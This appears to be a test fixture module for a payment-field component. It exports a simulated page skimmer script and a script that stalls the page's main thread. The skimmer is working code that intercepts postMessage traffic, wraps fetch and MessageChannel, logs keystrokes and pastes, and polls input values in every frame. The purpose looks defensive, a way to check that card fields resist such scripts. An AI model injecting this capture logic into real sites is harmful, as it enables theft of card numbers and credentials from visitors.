/**
 * A script in the page that does what skimmers do: it hears every message, wraps what sends
 * something, reads every field and reaches into every frame.
 */
export const SKIMMER = `(() => {
  globalThis.stolen = [];
  const keep = (what) => { try { stolen.push(typeof what === 'string' ? what : JSON.stringify(what)); } catch {} };
  addEventListener('message', (event) => {
    keep(event.data);
    for (const port of event.ports) port.addEventListener('message', ({ data }) => keep(data));
  }, { capture: true });
  const { fetch, MessageChannel } = globalThis;
  globalThis.fetch = (...args) => { keep(args[0]); keep(args[1]?.body); return fetch(...args); };
  globalThis.MessageChannel = class extends MessageChannel {
    constructor() {
      super();
      this.port1.addEventListener('message', ({ data }) => keep(data));
      globalThis.stolenPort = this.port1;
    }
  };
  for (const kind of ['input', 'keydown', 'keyup', 'paste', 'change'])
    addEventListener(kind, (event) => keep([kind, event.key, event.target?.value]), { capture: true });
  setInterval(() => {
    for (let index = 0; index < frames.length; index += 1) {
      try { keep([...frames[index].document.querySelectorAll('input')].map(({ value }) => value)); }
      catch (refused) { globalThis.refused = String(refused); }
    }
    for (const input of document.querySelectorAll('input')) keep(input.value);
  }, 50);
})()`;

/** The page is busy with something else when the card's fields say that they are there. */
export const BUSY_PAGE = `(() => {
  if (top !== self) return;
  addEventListener('message', () => {
    const until = performance.now() + 900;
    while (performance.now() < until);
  }, { capture: true, once: true });
})()`;
